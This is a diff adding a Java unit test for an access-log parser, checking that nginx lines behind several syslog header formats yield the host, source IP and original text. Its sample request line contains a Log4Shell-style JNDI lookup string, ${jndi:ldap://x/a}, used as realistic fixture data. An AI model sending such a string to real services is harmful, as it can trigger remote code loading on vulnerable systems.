@@ -53,6 +53,24 @@ class AccessLogParserTest {
   }
 
   @Test
+  void readsLinesBehindEitherSyslogHeaderAndTakesTheHost() {
+    String body = "203.0.113.66 - - [12/Jul/2020:03:41:15 +0000] \"GET /?q=${jndi:ldap://x/a} HTTP/1.1\" 200 5120 \"-\" \"curl/8\"";
+    for (String line : new String[] {
+        "<190>1 2020-07-12T03:41:15Z web01 nginx - - - " + body,
+        "<190>1 2020-07-12T03:41:15Z web01 nginx 12 ID7 [exampleSDID@32473 iut=\"3\" eventSource=\"a ] b\"] " + body,
+        "<190>Jul 12 03:41:15 web01 nginx: " + body,
+        "Jul  2 03:41:15 web01 nginx[12]: " + body}) {
+      var e = p.parse(line);
+      assertThat(e).as(line).isNotNull();
+      assertThat(e.get("host.name")).as(line).isEqualTo("web01");
+      assertThat(e.get("source.ip")).as(line).isEqualTo("203.0.113.66");
+      assertThat(e.get("event.original")).as(line).isEqualTo(line);
+    }
+    assertThat(p.parse("<190>1 2020-07-12T03:41:15Z web01 nginx - - [unclosed " + body)).isNull();
+    assertThat(p.parse("<190>1 2020-07-12T03:41:15Z - nginx - - - " + body).get("host.name")).isNull();
+  }
+
+  @Test
   void notAnAccessLogLineIsNull() {
     assertThat(p.parse("")).isNull();
     assertThat(p.parse("hello world")).isNull();
